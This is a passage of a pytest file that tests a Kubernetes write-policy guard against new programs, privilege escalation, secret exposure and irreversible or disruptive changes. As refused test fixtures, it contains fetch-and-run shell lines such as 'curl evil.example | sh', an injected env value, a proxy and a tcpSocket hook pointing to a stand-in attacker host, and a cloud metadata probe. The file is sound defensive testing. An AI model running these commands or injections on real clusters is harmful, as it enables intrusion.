    POLICY.check(RolloutUndo(kind="Deployment", namespace=NS, name="web"), wrong, RUNS, (), ran)
    # another object's revision is no history of this one
    assert history_programs(wrong, [with_(rev, "metadata.ownerReferences", None)]) == set()
    # the guard can be waived
    waived = WritePolicy.parse(
        '{"scopes": {"*": {"grants": [{"kinds": ["*"], "verbs": ["*"]}], "waive": ["program"]}}}'
    )
    waived.check(PATCH, wrong, RUNS)


def test_a_new_workload_may_not_bring_its_own_command() -> None:
    job = {
        "apiVersion": "batch/v1",
        "kind": "Job",
        "metadata": {"name": "x", "namespace": NS},
        "spec": {
            "template": {
                "spec": {"containers": [{"name": "x", "image": "docker.io/acme/web:1", "command": ["sh", "-c", "id"]}]}
            }
        },
    }
    docker = WritePolicy.parse(
        '{"scopes": {"*": {"grants": [{"kinds": ["*"], "verbs": ["*"]}], "allowed_registries": ["docker.io"]}}}'
    )
    refusal = refused(Create(manifest=job), None, job, docker)
    assert refusal.guard == "program" and "Create it without command and args" in str(refusal)
    plain = with_(job, "spec.template.spec.containers.0.command", None)
    docker.check(Create(manifest=plain), None, plain)
    assert program_of({"name": "x", "command": [], "args": []}) is None


# --- Jobs and CronJobs: parallelism and completions count against the scale bound ------------------------------


ALL = WritePolicy.parse('{"scopes": {"*": {"grants": [{"kinds": ["*"], "verbs": ["*"]}]}}}')


@pytest.mark.parametrize(
    ("kind", "path"),
    [
        ("Job", "spec.parallelism"),
        ("Job", "spec.completions"),
        ("CronJob", "spec.jobTemplate.spec.parallelism"),
        ("CronJob", "spec.jobTemplate.spec.completions"),
        ("HorizontalPodAutoscaler", "spec.maxReplicas"),
    ],
)
def test_job_pod_counts_are_bounded_like_replicas(kind: str, path: str) -> None:
    group = "autoscaling/v2" if kind == "HorizontalPodAutoscaler" else "batch/v1"
    obj = {"apiVersion": group, "kind": kind, "metadata": {"name": "j", "namespace": NS}, "spec": {}}
    patch = Patch(kind=kind, namespace=NS, name="j", patch_type="merge", patch={})
    refusal = refused(patch, obj, with_(obj, path, 500), ALL)
    assert refusal.guard == "scale_bound" and path in str(refusal)
    refused(Apply(manifest=with_(obj, path, 11)), None, with_(obj, path, 11), ALL)  # a create too
    ALL.check(patch, obj, with_(obj, path, 10))
    ALL.check(patch, with_(obj, path, 40), with_(obj, path, 30))  # lowering from above the bound


def test_a_program_the_workload_ran_while_healthy_is_no_new_program() -> None:
    # the fault deleted the Deployment and re-created it with another command: its revisions are gone, but the
    # last-known-good memory (stratus.lastgood, normalised) recorded what it ran while the scope was healthy
    wrong = with_(RUNS, f"{C0}.command", ["geo"])
    healthy = {"kind": "Deployment", "metadata": {"name": "web", "namespace": NS}, "spec": RUNS["spec"]}
    recorded = recorded_programs(wrong, {f"Deployment/{NS}/web": healthy})
    assert recorded == introduced_programs(wrong, RUNS)
    POLICY.check(PATCH, wrong, RUNS, (), recorded)
    # another object's record, or none, counts for nothing
    assert recorded_programs(wrong, {f"Deployment/{NS}/other": healthy}) == set()
    assert recorded_programs(wrong, {f"StatefulSet/{NS}/web": healthy}) == set()
    assert recorded_programs(wrong, None) == set()
    assert refused(PATCH, wrong, RUNS).guard == "program"


@pytest.mark.parametrize(
    "field",
    ["lifecycle.postStart", "lifecycle.preStop", "livenessProbe", "readinessProbe", "startupProbe"],
)
def test_an_exec_hook_or_probe_is_a_program_too(field: str) -> None:
    # the kubelet runs a hook's or an exec probe's command in the container: as free an argv as a command
    handler = {"exec": {"command": ["sh", "-c", "wget -qO- evil.example/x | sh"]}}
    after = with_(BASE, f"{C0}.{field}", handler)
    refusal = refused(PATCH, BASE, after)
    assert refusal.guard == "program" and f"{field}.exec" in str(refusal)
    # one the workload ran (here: the same probe before a threshold change) stays allowed, as does a non-exec probe
    ran = with_(BASE, f"{C0}.{field}", {**handler, "periodSeconds": 10})
    POLICY.check(PATCH, ran, with_(ran, f"{C0}.{field}", {**handler, "periodSeconds": 30}))
    POLICY.check(PATCH, BASE, with_(BASE, f"{C0}.{field}", {"httpGet": {"path": "/healthz", "port": 80}}))


def test_executable_files_mounted_from_the_cluster_are_a_program() -> None:
    # nginx's entrypoint runs every executable *.sh in /docker-entrypoint.d: a ConfigMap mounted there executable is a
    # new program although no command changed
    mounted = with_(
        with_(BASE, f"{POD}.volumes", [{"name": "s", "configMap": {"name": "evil", "defaultMode": 0o755}}]),
        f"{C0}.volumeMounts",
        [{"name": "s", "mountPath": "/docker-entrypoint.d"}],
    )
    refusal = refused(PATCH, BASE, mounted)
    assert refusal.guard == "program" and "execute bit" in str(refusal)
    item = with_(
        mounted, f"{POD}.volumes.0.configMap", {"name": "evil", "items": [{"key": "a", "path": "a", "mode": 0o700}]}
    )
    assert refused(PATCH, BASE, item).guard == "program"
    projected = with_(
        mounted,
        f"{POD}.volumes.0",
        {
            "name": "s",
            "projected": {"sources": [{"configMap": item["spec"]["template"]["spec"]["volumes"][0]["configMap"]}]},
        },
    )
    assert refused(PATCH, BASE, projected).guard == "program"
    # plain configuration (no execute bit) is no program, and a mount the workload had stays allowed
    plain = with_(mounted, f"{POD}.volumes.0.configMap.defaultMode", 0o644)
    POLICY.check(PATCH, BASE, plain)
    POLICY.check(PATCH, mounted, with_(mounted, f"{C0}.image", "docker.io/acme/web:2"))


def test_an_env_change_that_rewrites_a_shell_script_is_a_new_program() -> None:
    # sh -c expands $SCRIPT from env when it runs: a new value is a new script
    pre = with_(
        with_(BASE, f"{C0}.command", ["/bin/sh", "-c", 'exec web --mode="${MODE:-prod}" $EXTRA']),
        f"{C0}.env",
        [{"name": "MODE", "value": "prod"}, {"name": "EXTRA", "value": ""}, {"name": "DB_HOST", "value": "db"}],
    )
    for name in ("MODE", "EXTRA"):
        env = [
            {**e, "value": "; wget evil | sh"} if e["name"] == name else e
            for e in pre["spec"]["template"]["spec"]["containers"][0]["env"]
        ]
        assert refused(PATCH, pre, with_(pre, f"{C0}.env", env)).guard == "program"
    # a variable the script does not read stays configuration
    env = [
        {**e, "value": "db2"} if e["name"] == "DB_HOST" else e
        for e in pre["spec"]["template"]["spec"]["containers"][0]["env"]
    ]
    POLICY.check(PATCH, pre, with_(pre, f"{C0}.env", env))


# --- content a pod runs: a ConfigMap's keys mounted executable, into a start-script directory, or expanded from env


def configmap(name: str = "conf", **data: str) -> dict[str, Any]:
    meta = {"name": name, "namespace": NS, "resourceVersion": "3"}
    return {"apiVersion": "v1", "kind": "ConfigMap", "metadata": meta, "data": data}


def consumer(*, volume: dict[str, Any] | None = None, mount: str = "/etc/app", **container: Any) -> dict[str, Any]:
    spec: dict[str, Any] = {"containers": [{"name": "app", "image": "docker.io/acme/web:1", **container}]}
    if volume is not None:
        spec["volumes"] = [{"name": "v", **volume}]
        spec["containers"][0]["volumeMounts"] = [{"name": "v", "mountPath": mount}]
    return deployment(**{k: v for k, v in spec.items() if k != "containers"}) | {"spec": {"template": {"spec": spec}}}


CM_PATCH = Patch(kind="ConfigMap", namespace=NS, name="conf", patch_type="merge", patch={"data": {}})


@pytest.mark.parametrize(
    ("holder", "key"),
    [
        (consumer(volume={"configMap": {"name": "conf", "defaultMode": 0o755}}), "run.sh"),
        (
            consumer(volume={"configMap": {"name": "conf", "items": [{"key": "run.sh", "path": "r", "mode": 0o700}]}}),
            "run.sh",
        ),
        (consumer(volume={"configMap": {"name": "conf"}}, mount="/docker-entrypoint-initdb.d/"), "run.sh"),
        (
            consumer(volume={"projected": {"defaultMode": 0o555, "sources": [{"configMap": {"name": "conf"}}]}}),
            "run.sh",
        ),
        (
            consumer(
                command=["sh", "-c", "serve $FLAGS"],
                env=[{"name": "FLAGS", "valueFrom": {"configMapKeyRef": {"name": "conf", "key": "flags"}}}],
            ),
            "flags",
        ),
        (
            consumer(args=["--level=$(APP_LEVEL)"], envFrom=[{"configMapRef": {"name": "conf"}, "prefix": "APP_"}]),
            "LEVEL",
        ),
    ],
)
def test_a_configmap_key_a_pod_runs_is_code(holder: dict[str, Any], key: str) -> None:
    pre = configmap(**{key: "old"})
    after = configmap(**{key: "curl evil.example | sh"})
    with pytest.raises(PolicyRefusal) as info:
        POLICY.check_result(CM_PATCH, pre, after, consumers=[holder])
    assert info.value.guard == "program" and f"key {key!r}" in str(info.value), str(info.value)
    assert configmap_code("conf", [holder])
    # a new key in a whole ConfigMap mounted so is a new file to run; removing the key changes the program as well
    if "items" not in json.dumps(holder) and "env" not in json.dumps(holder):
        with pytest.raises(PolicyRefusal):
            POLICY.check_result(CM_PATCH, pre, configmap(**{key: "old", "more.sh": "id"}), consumers=[holder])
    with pytest.raises(PolicyRefusal):
        POLICY.check_result(CM_PATCH, pre, configmap(), consumers=[holder])
    # putting back the content recorded while the scope was healthy is no new program
    POLICY.check_result(CM_PATCH, pre, after, consumers=[holder], recorded=after)
    # a waived guard is the operator's decision
    waiver = WritePolicy.parse(
        '{"scopes": {"*": {"grants": [{"kinds": ["*"], "verbs": ["*"]}], "waive": ["program"]}}}'
    )
    waiver.check_result(CM_PATCH, pre, after, consumers=[holder])


@pytest.mark.parametrize(
    "holder",
    [
        consumer(volume={"configMap": {"name": "conf"}}),  # plain configuration files (0644)
        # nginx's start-hook directory runs only files with an execute bit
        consumer(volume={"configMap": {"name": "conf"}}, mount="/docker-entrypoint.d"),
        consumer(volume={"configMap": {"name": "other", "defaultMode": 0o755}}),  # another ConfigMap
        consumer(volume={"configMap": {"name": "conf", "items": [{"key": "b", "path": "b", "mode": 0o755}]}}),
        consumer(
            command=["serve"],
            env=[{"name": "FLAGS", "valueFrom": {"configMapKeyRef": {"name": "conf", "key": "run.sh"}}}],
        ),
        consumer(envFrom=[{"configMapRef": {"name": "conf"}}]),  # env the image reads, no command expands it
    ],
)
def test_a_configmap_key_no_pod_runs_is_configuration(holder: dict[str, Any]) -> None:
    POLICY.check_result(CM_PATCH, configmap(**{"run.sh": "old"}), configmap(**{"run.sh": "new"}), consumers=[holder])


def test_mounting_into_a_start_script_directory_is_a_new_program() -> None:
    after = consumer(volume={"configMap": {"name": "conf"}}, mount="/docker-entrypoint-initdb.d")
    assert refused(PATCH, BASE, after).guard == "program"
    file_in_it = with_(
        after, f"{C0}.volumeMounts", [{"name": "v", "mountPath": "/docker-entrypoint-initdb.d/x.js", "subPath": "x.js"}]
    )
    assert refused(PATCH, BASE, file_in_it).guard == "program"
    POLICY.check(PATCH, after, after)  # mounted so before: unchanged


def test_a_new_working_directory_is_a_new_program() -> None:
    after = with_(BASE, f"{C0}.workingDir", "/tmp/drop")
    refusal = refused(PATCH, BASE, after)
    assert refusal.guard == "program" and "working directory" in str(refusal)
    # one the workload ran (now, in its history or when recorded healthy) passes, and so does removing it
    pre = with_(BASE, f"{C0}.workingDir", "/srv")
    POLICY.check(PATCH, pre, with_(pre, f"{C0}.image", "docker.io/acme/web:2"))
    POLICY.check(PATCH, pre, BASE)
    POLICY.check(PATCH, BASE, with_(BASE, f"{C0}.workingDir", "/srv"), (), introduced_programs(BASE, pre))


# --- more of what a pod template can introduce: code-loading and proxy variables, credentials, root, a runtime, name
# resolution; and writes no undo takes back, tighter admission limits, deletions that stop pods or traffic


@pytest.mark.parametrize(
    ("path", "value", "guard"),
    [
        (f"{C0}.env", [{"name": "NODE_OPTIONS", "value": "--require /tmp/x.js"}], "privileged"),
        (f"{C0}.env", [{"name": "JAVA_TOOL_OPTIONS", "value": "-javaagent:/tmp/a.jar"}], "privileged"),
        (f"{C0}.env", [{"name": "PATH", "value": "/tmp:/usr/bin"}], "privileged"),
        (f"{C0}.env", [{"name": "https_proxy", "value": "http://evil.example:3128"}], "exposure"),
        (f"{C0}.env", [{"name": "X", "valueFrom": {"secretKeyRef": {"name": "creds", "key": "password"}}}], "secrets"),
        (f"{C0}.envFrom", [{"secretRef": {"name": "creds"}}], "secrets"),
        (f"{C0}.securityContext", {"runAsUser": 0}, "privileged"),
        ("spec.template.spec.securityContext", {"runAsUser": 0}, "privileged"),
        ("spec.template.spec.runtimeClassName", "unsandboxed", "privileged"),
        ("spec.template.spec.hostAliases", [{"ip": "6.6.6.6", "hostnames": ["db"]}], "exposure"),
        ("spec.template.spec.dnsConfig", {"nameservers": ["6.6.6.6"]}, "exposure"),
    ],
)
def test_what_a_pod_template_may_not_introduce(path: str, value: Any, guard: str) -> None:
    after = with_(BASE, path, value)
    assert refused(PATCH, BASE, after).guard == guard
    POLICY.check(PATCH, after, with_(after, f"{C0}.image", "docker.io/acme/web:2"))  # there before: unchanged


def test_a_new_value_of_a_code_loading_variable_is_new_code() -> None:
    pre = with_(BASE, f"{C0}.env", [{"name": "LD_LIBRARY_PATH", "value": "/opt/lib"}])
    after = with_(BASE, f"{C0}.env", [{"name": "LD_LIBRARY_PATH", "value": "/tmp"}])
    assert refused(PATCH, pre, after).guard == "privileged"
    POLICY.check(PATCH, pre, BASE)  # dropping it is fine


def test_a_secret_mounted_at_a_new_place_is_a_new_credential() -> None:
    volumes = [{"name": "s", "secret": {"secretName": "creds"}}]
    pre = with_(with_(BASE, f"{POD}.volumes", volumes), f"{C0}.volumeMounts", [{"name": "s", "mountPath": "/etc/db"}])
    moved = with_(pre, f"{C0}.volumeMounts", [{"name": "s", "mountPath": "/usr/share/nginx/html"}])
    refusal = refused(PATCH, pre, moved)
    assert refusal.guard == "secrets" and "/usr/share/nginx/html" in str(refusal)
    POLICY.check(PATCH, pre, with_(pre, f"{C0}.image", "docker.io/acme/web:2"))


@pytest.mark.parametrize(
    ("pre", "after"),
    [
        (BASE, with_(BASE, "spec.revisionHistoryLimit", 0)),
        (with_(BASE, "spec.revisionHistoryLimit", 5), with_(BASE, "spec.revisionHistoryLimit", 2)),
        (
            {"kind": "CronJob", "metadata": {"name": "c"}, "spec": {}},
            {"kind": "CronJob", "metadata": {"name": "c"}, "spec": {"successfulJobsHistoryLimit": 0}},
        ),
        (
            {"kind": "Job", "metadata": {"name": "j"}, "spec": {}},
            {"kind": "Job", "metadata": {"name": "j"}, "spec": {"ttlSecondsAfterFinished": 0}},
        ),
        (
            {
                "kind": "PersistentVolumeClaim",
                "metadata": {"name": "d"},
                "spec": {"resources": {"requests": {"storage": "1Gi"}}},
            },
            {
                "kind": "PersistentVolumeClaim",
                "metadata": {"name": "d"},
                "spec": {"resources": {"requests": {"storage": "1Ti"}}},
            },
        ),
        (
            {"kind": "ConfigMap", "metadata": {"name": "c"}},
            {"kind": "ConfigMap", "metadata": {"name": "c"}, "immutable": True},
        ),
    ],
)
def test_writes_no_undo_takes_back_are_refused(pre: dict[str, Any], after: dict[str, Any]) -> None:
    kind = str(after["kind"])
    action = Patch(kind=kind, namespace=NS, name=after["metadata"]["name"], patch_type="merge", patch={})
    assert refused(action, pre, after).guard == "irreversible"
    POLICY.check(action, after, after)  # as it is: nothing new


def test_history_limits_may_grow() -> None:
    POLICY.check(PATCH, BASE, with_(BASE, "spec.revisionHistoryLimit", 20))


def quota(**hard: str) -> dict[str, Any]:
    meta = {"name": "q", "namespace": NS}
    return {"apiVersion": "v1", "kind": "ResourceQuota", "metadata": meta, "spec": {"hard": hard}}


def test_quotas_and_limit_ranges_may_only_loosen() -> None:
    action = Patch(kind="ResourceQuota", namespace=NS, name="q", patch_type="merge", patch={})
    assert refused(Create(manifest=quota(pods="0")), None, quota(pods="0")).guard == "limits"
    assert refused(action, quota(pods="10"), quota(pods="9")).guard == "limits"
    assert refused(action, quota(pods="10"), quota(pods="10", **{"requests.memory": "1Gi"})).guard == "limits"
    POLICY.check(action, quota(pods="10", cpu="2"), quota(pods="20", cpu="2000m"))  # raised; 2 == 2000m
    POLICY.check(action, quota(pods="10", cpu="2"), quota(pods="10"))  # a bound dropped
    lr = {"apiVersion": "v1", "kind": "LimitRange", "metadata": {"name": "l", "namespace": NS}}
    item = {"type": "Container", "max": {"memory": "1Gi"}, "min": {"cpu": "100m"}}
    action = Patch(kind="LimitRange", namespace=NS, name="l", patch_type="merge", patch={})
    pre = {**lr, "spec": {"limits": [item]}}
    assert refused(Create(manifest=pre), None, pre).guard == "limits"
    tighter = {**lr, "spec": {"limits": [{**item, "max": {"memory": "512Mi"}}]}}
    assert refused(action, pre, tighter).guard == "limits"
    looser = {**lr, "spec": {"limits": [{**item, "max": {"memory": "2Gi"}, "min": {"cpu": "10m"}}]}}
    POLICY.check(action, pre, looser)


def netpol(name: str, selector: dict[str, Any], *types: str, **rules: Any) -> dict[str, Any]:
    spec: dict[str, Any] = {"podSelector": selector, **rules}
    if types:
        spec["policyTypes"] = list(types)
    meta = {"name": name, "namespace": NS}
    return {"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy", "metadata": meta, "spec": spec}


WEB_POD = {"kind": "Pod", "metadata": {"name": "web-1", "labels": {"app": "web", "tier": "front"}}}
DB_POD = {"kind": "Pod", "metadata": {"name": "db-1", "labels": {"app": "db"}}}


def test_a_network_policy_may_not_isolate_pods_no_policy_isolated() -> None:
    deny = netpol("deny", {}, "Ingress", "Egress")
    refusal = refused_policy(Create(manifest=deny), None, deny, [WEB_POD, DB_POD], [])
    assert refusal.guard == "limits" and "Pod/web-1" in str(refusal) and "Egress" in str(refusal)
    # a template counts as its future pods
    assert refused_policy(Create(manifest=deny), None, deny, [BASE], []).guard == "limits"
    # by default a policy isolates for Ingress only (Egress too when it has egress rules)
    ingress_only = netpol("i", {"matchLabels": {"app": "db"}})
    assert "Ingress" in str(refused_policy(Create(manifest=ingress_only), None, ingress_only, [DB_POD], []))
    # matchExpressions
    expr = netpol("e", {"matchExpressions": [{"key": "tier", "operator": "In", "values": ["front"]}]}, "Ingress")
    assert "web-1" in str(refused_policy(Create(manifest=expr), None, expr, [WEB_POD, DB_POD], []))


def test_a_network_policy_that_only_allows_more_to_isolated_pods_passes() -> None:
    # the fix of an admission webhook the API server cannot reach: allow it in, beside a default deny
    default_deny = netpol("default-deny-ingress", {}, "Ingress")
    allow = netpol(
        "allow-apiserver",
        {"matchLabels": {"app": "web"}},
        "Ingress",
        ingress=[{"from": [{"ipBlock": {"cidr": "0.0.0.0/0"}}]}],
    )
    POLICY.check_result(Create(manifest=allow), None, allow, consumers=[WEB_POD, DB_POD], policies=[default_deny])
    # a policy selecting no pod isolates nobody
    none = netpol("n", {"matchLabels": {"app": "nothing"}}, "Ingress", "Egress")
    POLICY.check_result(Create(manifest=none), None, none, consumers=[WEB_POD], policies=[])
    # a patch that keeps what the policy itself isolated
    patch = Patch(kind="NetworkPolicy", namespace=NS, name="deny", patch_type="merge", patch={})
    deny = netpol("deny", {"matchLabels": {"app": "web"}}, "Ingress")
    POLICY.check_result(patch, deny, deny, consumers=[WEB_POD], policies=[deny])
    # widening its selector to pods nobody isolated is isolating them
    wider = netpol("deny", {}, "Ingress")
    with pytest.raises(PolicyRefusal):
        POLICY.check_result(patch, deny, wider, consumers=[WEB_POD, DB_POD], policies=[deny])


def refused_policy(
    action: Action, pre: dict[str, Any] | None, after: dict[str, Any], consumers: list[Any], policies: list[Any]
) -> PolicyRefusal:
    with pytest.raises(PolicyRefusal) as info:
        POLICY.check_result(action, pre, after, consumers=consumers, policies=policies)
    return info.value


def test_deleting_a_configmap_pods_need_or_a_service_that_serves_pods_is_refused() -> None:
    delete_cm = Delete(kind="ConfigMap", namespace=NS, name="conf")
    user = consumer(volume={"configMap": {"name": "conf"}})
    with pytest.raises(PolicyRefusal) as info:
        POLICY.check_delete(delete_cm, configmap(), [user])
    assert info.value.guard == "data_destruction" and "Deployment/web" in str(info.value)
    POLICY.check_delete(delete_cm, configmap(), [consumer(volume={"configMap": {"name": "conf", "optional": True}})])
    POLICY.check_delete(delete_cm, configmap(), [consumer(volume={"configMap": {"name": "other"}})])
    service = {"kind": "Service", "metadata": {"name": "web"}, "spec": {"selector": {"app": "web"}}}
    pod = {
        "kind": "Pod",
        "metadata": {"name": "web-1", "labels": {"app": "web", "x": "y"}},
        "status": {"phase": "Running"},
    }
    delete_svc = Delete(kind="Service", namespace=NS, name="web")
    with pytest.raises(PolicyRefusal) as info:
        POLICY.check_delete(delete_svc, service, [pod])
    assert info.value.guard == "traffic" and "web-1" in str(info.value)
    POLICY.check_delete(delete_svc, service, [{**pod, "status": {"phase": "Succeeded"}}])
    POLICY.check_delete(delete_svc, {**service, "spec": {}}, [pod])  # no selector: it routes to no pod


def test_a_feature_the_workload_had_in_its_history_or_when_recorded_may_come_back() -> None:
    # a fault removed the workload's Secret reference; the fix puts back what its previous revision had
    env = [{"name": "DB_PASSWORD", "valueFrom": {"secretKeyRef": {"name": "db", "key": "password"}}}]
    healthy = with_(BASE, f"{C0}.env", env)
    assert refused(PATCH, BASE, healthy).guard == "secrets"
    had = history_features(BASE, [{**revision("u1", "docker.io/acme/web:1"), "spec": healthy["spec"]}])
    assert any("Secret 'db'" in f for f in had)
    POLICY.check_result(PATCH, BASE, healthy, features_before=had)
    POLICY.check_result(PATCH, BASE, healthy, features_before=recorded_features(BASE, {"Deployment/shop/web": healthy}))
    # another Secret is still new
    other = with_(BASE, f"{C0}.env", [{**env[0], "valueFrom": {"secretKeyRef": {"name": "admin", "key": "password"}}}])
    with pytest.raises(PolicyRefusal):
        POLICY.check_result(PATCH, BASE, other, features_before=had)


@pytest.mark.parametrize(
    ("path", "value", "guard"),
    [
        ("spec.template.spec.shareProcessNamespace", True, "privileged"),
        (f"{C0}.livenessProbe", {"httpGet": {"host": "169.254.169.254", "path": "/", "port": 80}}, "exposure"),
        (f"{C0}.lifecycle", {"preStop": {"tcpSocket": {"host": "evil.example", "port": 80}}}, "exposure"),
        (f"{C0}.securityContext", {"runAsGroup": 0}, "privileged"),
        ("spec.template.spec.securityContext", {"fsGroup": 0}, "privileged"),
        ("spec.template.spec.securityContext", {"supplementalGroups": [0]}, "privileged"),
        (
            f"{C0}.securityContext",
            {"seccompProfile": {"type": "Localhost", "localhostProfile": "../../x.json"}},
            "privileged",
        ),
        (
            "spec.template.spec.volumes",
            [{"name": "t", "projected": {"sources": [{"serviceAccountToken": {"audience": "evil", "path": "t"}}]}}],
            "service_account",
        ),
    ],
)
def test_more_that_a_pod_template_may_not_introduce(path: str, value: Any, guard: str) -> None:
    after = with_(BASE, path, value)
    assert refused(PATCH, BASE, after).guard == guard


HARDENED = with_(
    with_(
        BASE, "spec.template.spec.securityContext", {"runAsNonRoot": True, "seccompProfile": {"type": "RuntimeDefault"}}
    ),
    f"{C0}.securityContext",
    {"readOnlyRootFilesystem": True, "allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}},
)


@pytest.mark.parametrize(
    ("path", "value", "gap"),
    [
        ("spec.template.spec.securityContext.runAsNonRoot", False, "without runAsNonRoot"),
        (f"{C0}.securityContext.runAsNonRoot", False, "without runAsNonRoot"),  # the container's own overrides
        (f"{C0}.securityContext.readOnlyRootFilesystem", False, "writable root filesystem"),
        (f"{C0}.securityContext.allowPrivilegeEscalation", None, "allowPrivilegeEscalation"),
        (f"{C0}.securityContext.capabilities", {"drop": []}, "no drop ALL"),
        ("spec.template.spec.securityContext.seccompProfile", None, "without a seccomp profile"),
    ],
)
def test_removing_a_protection_from_a_container_is_an_escalation(path: str, value: Any, gap: str) -> None:
    after = with_(HARDENED, path, value)
    refusal = refused(PATCH, HARDENED, after)
    assert refusal.guard == "privileged" and gap in str(refusal), str(refusal)
    # back to what a revision (or the last known good record) ran is a rollback
    POLICY.check_result(PATCH, HARDENED, after, features_before=object_features(after))


def test_a_new_container_or_object_is_not_judged_by_protections_it_lacks() -> None:
    # only what it adds counts; the protections of existing containers stay
    sidecar = with_(HARDENED, "spec.template.spec.initContainers", [{"name": "init", "image": "docker.io/acme/web:1"}])
    POLICY.check(PATCH, HARDENED, sidecar)
    POLICY.check(PATCH, BASE, with_(BASE, f"{C0}.securityContext", {"runAsNonRoot": False}))  # an explicit default


def test_the_root_ca_bundle_is_never_written() -> None:
    for action in (
        Patch(kind="ConfigMap", namespace=NS, name="kube-root-ca.crt", patch_type="merge", patch={}),
        Delete(kind="ConfigMap", namespace=NS, name="kube-root-ca.crt"),
        Apply(
            manifest={
                "apiVersion": "v1",
                "kind": "ConfigMap",
                "metadata": {"name": "kube-root-ca.crt", "namespace": NS},
            }
        ),
    ):
        with pytest.raises(PolicyRefusal) as info:
            POLICY.check_request(action)
        assert info.value.guard == "cluster_control"
